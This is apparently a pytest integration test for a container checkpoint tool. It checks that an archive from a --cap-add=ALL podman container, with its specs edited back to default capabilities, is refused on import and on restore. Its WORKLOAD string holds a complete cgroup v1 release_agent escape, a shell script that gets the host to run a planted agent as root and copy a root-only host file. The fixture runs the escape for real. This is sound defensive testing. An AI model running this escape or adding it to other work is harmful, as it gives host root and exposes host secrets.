"""Host root through an edited archive: CRIU's images ask for more than the spec grants, refused.

A podman container run with every capability can escape to the host (cgroup v1 release_agent:
it mounts a cgroup hierarchy, and the kernel runs the agent it names as root, on the host). Its
archive, with only config.dump and spec.dump edited back to podman's defaults, would restore the
same process with the same capabilities; `gpuckpt import --trust-config` and podman's own
`restore --import` through the shim must both refuse it with one line, leave no container, and
the restored process must never run (the host file stays unread).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from bed import (
    COUNTER_SOURCE,
    GPUCKPT,
    PODMAN_IMAGE,
    assert_continues,
    containers_named,
    edited_archive,
    edited_specs,
    sh,
    staging_leftovers,
    unsigned_allowed_on_node,
    wait_counter,
)

# The workload: every 0.2 s it notes the time; when armed (/tmp/armed, by the test) or when its
# clock jumped (it has just been restored), it runs the escape, whose agent copies SECRET into
# MARKER on the host.
WORKLOAD = r'''
import os, subprocess, sys, time
ESCAPE = """
set -e
up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n1)
mkdir -p /tmp/cg
mount -t cgroup -o "none,name=$HIERARCHY$ATTEMPT" cgroup /tmp/cg
trap 'rmdir /tmp/cg/x 2>/dev/null; umount /tmp/cg' EXIT
mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
printf '#!/bin/sh\\ncat %s > %s\\n' "$SECRET" "$MARKER" > /tmp/agent.sh
chmod +x /tmp/agent.sh
echo "$up/tmp/agent.sh" > /tmp/cg/release_agent
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
sleep 0.5
"""
last = time.time()
while True:
    now, note = time.time(), ""
    if os.path.exists("/tmp/armed") or now - last > 1.5:
        attempt = {**os.environ, "ATTEMPT": str(int(now * 10) % 10**6)}  # a new hierarchy each time
        done = subprocess.run(["sh", "-c", ESCAPE], capture_output=True, text=True, env=attempt)
        note = f" escape {done.returncode} {done.stderr.strip()[-200:]!r}"
        with open("/tmp/escapes", "a") as escapes:
            escapes.write(f"{now:.3f}{note}\n")
    with open("/tmp/state.new", "w") as state:
        state.write(f"{now:.3f}{note}\n")
    os.replace("/tmp/state.new", "/tmp/state")
    last = time.time()
    time.sleep(0.2)
'''
# podman 4's default capabilities (containers.conf default_capabilities)
PODMAN_DEFAULT_CAPS = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_NET_BIND_SERVICE",
                       "CAP_SETFCAP", "CAP_SETGID", "CAP_SETPCAP", "CAP_SETUID", "CAP_SYS_CHROOT"]


def wait_for(check, timeout_s: float, what: str):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if result := check():
            return result
        time.sleep(0.2)
    raise AssertionError(f"{what} within {timeout_s} s")


@pytest.fixture
def escaping_container(runc_delegate, tmp_path):
    """A running --cap-add=ALL container whose escape was seen to work, then disarmed; the host
    file it reads, and the host path its escape writes to (removed again)."""
    tag = f"gpuckpt-imgcreds-{os.getpid()}-{time.monotonic_ns() % 10**6}"
    secret, marker = Path(f"/root/{tag}-secret"), Path(f"/tmp/{tag}-leaked")
    secret.write_text(f"{tag} root only\n")
    secret.chmod(0o600)
    sh("podman", "run", "-d", "--name", tag, "--network", "none", "--cap-add=ALL",
       "-e", f"SECRET={secret}", "-e", f"MARKER={marker}", "-e", f"HIERARCHY={tag[-20:]}",
       PODMAN_IMAGE, "python3", "-c", WORKLOAD)
    try:
        # the escape works with this container's capabilities: the host file comes out
        sh("podman", "exec", tag, "touch", "/tmp/armed")
        wait_for(lambda: marker.exists() and marker.read_text() == secret.read_text(), 30,
                 "the armed container did not read the host file")
        sh("podman", "exec", tag, "rm", "/tmp/armed")
        first = sh("podman", "exec", tag, "cat", "/tmp/state").stdout
        wait_for(lambda: (state := sh("podman", "exec", tag, "cat", "/tmp/state").stdout) != first
                 and "escape" not in state, 30, "the container did not stop escaping")
        assert f"name={tag[-20:]}" not in sh("podman", "exec", tag, "cat", "/proc/self/mountinfo").stdout
        marker.unlink()
        yield tag, secret, marker
    finally:
        sh("podman", "rm", "-f", "-t", "0", tag, check=False)
        secret.unlink(missing_ok=True)
        marker.unlink(missing_ok=True)
        remove_named_hierarchies(tag[-20:])


def remove_named_hierarchies(prefix: str) -> None:
    """The escape's named cgroup v1 hierarchies, gone with the container. A hierarchy whose child
    cgroup outlived the escape stays in the kernel unmounted and holds every process of the node in
    its root, where crun, asked to kill or delete a container, then signals every process of the
    node: mounted once more in a private mount namespace, its child cgroups removed, unmounted."""
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        hierarchy = line.split(":")[1]
        if not hierarchy.startswith(f"name={prefix}"):
            continue
        name = hierarchy.removeprefix("name=")
        sh("unshare", "--mount", "--propagation", "private", "--", "sh", "-c",
           'd=$(mktemp -d) && mount -t cgroup -o "none,name=$1" cgroup "$d" && '
           'find "$d" -mindepth 1 -depth -type d -exec rmdir {} \\; ; umount "$d"; rmdir "$d"', "-", name, check=False)
    left = [line for line in Path("/proc/self/cgroup").read_text().splitlines() if f"name={prefix}" in line]
    assert not left, f"named cgroup hierarchies left behind: {left}"


@pytest.fixture
def unsigned_allowed(tmp_path):
    """The edited archive is unsigned (its signature no longer matches): this test's directory is
    an explicit exception in the trust policy while it runs, so what refuses it is the image check."""
    source = f"archive:{tmp_path}/"
    with unsigned_allowed_on_node(source, note="integration test: image credentials"):
        yield source


def back_to_defaults(spec: dict) -> dict:
    spec["process"]["capabilities"] = {kind: list(PODMAN_DEFAULT_CAPS) for kind in ("bounding", "effective",
                                                                                     "permitted")}
    return spec








@pytest.mark.hostile("archive from a --cap-add=ALL container, config.dump and spec.dump edited back to defaults")
def test_an_archive_edited_to_hide_its_capabilities_is_refused(escaping_container, tmp_path, unsigned_allowed) -> None:
    name, secret, marker = escaping_container
    archive, edited = tmp_path / "all-caps.tar.zst", tmp_path / "edited.tar.zst"
    sh(GPUCKPT, "export", name, "-o", str(archive))
    sh("podman", "rm", "-f", name)
    edited_archive(archive, edited, edited_specs(back_to_defaults))
    assert not Path(f"{edited}.sig").exists()
    shown = json.loads(sh(GPUCKPT, "inspect", "--json", str(edited)).stdout)
    assert shown["container"]["name"] == name  # a well-formed archive, as podman would take it

    imported = sh(GPUCKPT, "import", "--trust-config", str(edited), check=False)
    assert imported.returncode == 3, imported.stdout + imported.stderr
    line = imported.stderr.strip()
    assert len(line.splitlines()) == 1, line
    assert line.startswith(f"gpuckpt import: {edited}: the checkpoint holds more than the container's spec grants: "
                           "process 1 (python3): effective capabilities hold CAP_DAC_READ_SEARCH"), line
    assert "the spec allows at most CAP_CHOWN, CAP_DAC_OVERRIDE" in line, line
    assert containers_named(name) == ""  # podman never ran
    assert staging_leftovers() == []

    # podman's own import trusts the archive; the shim's restore reads the images before runc does
    restored = sh("podman", "container", "restore", "--import", str(edited), check=False)
    assert restored.returncode != 0
    assert "the checkpoint holds more than the container's spec grants: process 1 (python3): effective " \
           "capabilities hold CAP_DAC_READ_SEARCH" in restored.stderr, restored.stderr
    shim_lines = [text for text in restored.stderr.splitlines() if "spec grants" in text]
    assert shim_lines and all(text.count("spec grants") == 1 for text in shim_lines), restored.stderr
    # podman 4.3 keeps the container record it created for the import when the runtime fails: it never ran
    assert containers_named(name) == f"{name} Created"
    assert sh("podman", "inspect", "--format", "{{.State.Pid}}", name).stdout.strip() == "0"
    sh("podman", "rm", "-f", "-t", "0", name)

    # the process that would have escaped on restore never ran
    time.sleep(3)
    assert not marker.exists()
    assert secret.stat().st_mode & 0o777 == 0o600


def test_a_multithreaded_container_restores_with_every_thread_filtered(runc_delegate) -> None:
    """CRIU writes the threads that share the leader's seccomp filters without any, and restores them
    through the leader's TSYNC: the check must see them filtered (a false refusal otherwise), and the
    restored threads are."""
    name = f"gpuckpt-threads-{os.getpid()}"
    source = ("import threading, time\n"
              "for _ in range(3): threading.Thread(target=lambda: time.sleep(10**6), daemon=True).start()\n"
              + COUNTER_SOURCE)
    try:
        sh("podman", "run", "-d", "--runtime", "gpuckpt-runtime", "--name", name, "--network", "none", PODMAN_IMAGE,
           "python3", "-c", source)
        read_state = lambda: sh("podman", "exec", name, "cat", "/tmp/state").stdout  # noqa: E731
        before = wait_counter(read_state, 2)
        sh("podman", "container", "checkpoint", name)
        sh("podman", "container", "restore", name)
        assert_continues(before, read_state)
        pid = sh("podman", "inspect", "--format", "{{.State.Pid}}", name).stdout.strip()
        modes = [line.split()[1] for task in Path(f"/proc/{pid}/task").iterdir()
                 for line in (task / "status").read_text().splitlines() if line.startswith("Seccomp:")]
        assert len(modes) == 4 and set(modes) == {"2"}, modes
    finally:
        sh("podman", "rm", "-f", "-t", "0", name, check=False)
